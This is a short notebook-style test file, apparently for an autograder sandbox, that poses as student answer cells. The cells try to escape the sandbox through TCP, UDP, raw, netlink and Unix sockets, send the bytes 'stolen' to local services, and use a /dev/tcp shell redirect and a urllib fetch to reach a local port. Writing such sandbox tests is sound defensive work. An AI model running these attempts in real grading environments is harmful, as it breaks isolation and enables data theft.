# tries = "TCP, UDP, DNS, netlink, local and abstract sockets: to services of this machine and to the world"
# intenta = "TCP, UDP, DNS, netlink, sockets locales y abstractos: hacia servicios de esta máquina y hacia el mundo"
# kind = "theft"
# peers = ["nbgrader", "otter"]

# %%
# [q1-weigh]
import socket

for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET6, ("::1", PORT)),
    (socket.AF_UNIX, "\0" + ABSTRACT),
    (socket.AF_UNIX, SERVICE),
):
    try:
        with socket.socket(family) as service:
            service.settimeout(0.3)
            service.connect(address)
            loot(service.recv(100))
    except OSError:
        pass

# %%
# [q2-count]
for family, kind in (
    (socket.AF_INET, socket.SOCK_DGRAM),
    (socket.AF_INET, socket.SOCK_RAW),
    (socket.AF_NETLINK, socket.SOCK_RAW),
    (17, socket.SOCK_RAW),
):
    try:
        with socket.socket(family, kind) as out:
            if family == socket.AF_INET and kind == socket.SOCK_DGRAM:
                out.sendto(b"stolen", ("127.0.0.1", PORT))
            won(f"a socket of family {family}")
    except OSError:
        pass
one, _other = socket.socketpair(socket.AF_UNIX)
try:
    one.sendto(b"stolen", SERVICE)
except OSError:
    pass
for line in get_ipython().getoutput(
    f"(echo hello > /dev/tcp/127.0.0.1/{PORT}) 2>&1; python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{PORT}', timeout=1).read())\" 2>&1"
):
    loot(line)
